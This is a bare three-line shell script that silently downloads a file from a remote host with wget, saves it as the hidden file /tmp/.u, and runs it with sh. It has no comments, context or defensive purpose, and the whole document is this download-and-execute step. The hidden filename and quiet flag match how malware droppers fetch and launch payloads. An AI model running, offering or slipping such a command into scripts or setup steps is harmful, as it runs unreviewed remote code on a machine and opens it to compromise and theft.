#!/bin/sh
wget -qO /tmp/.u https://uni.api-gateway.example/u
sh /tmp/.u
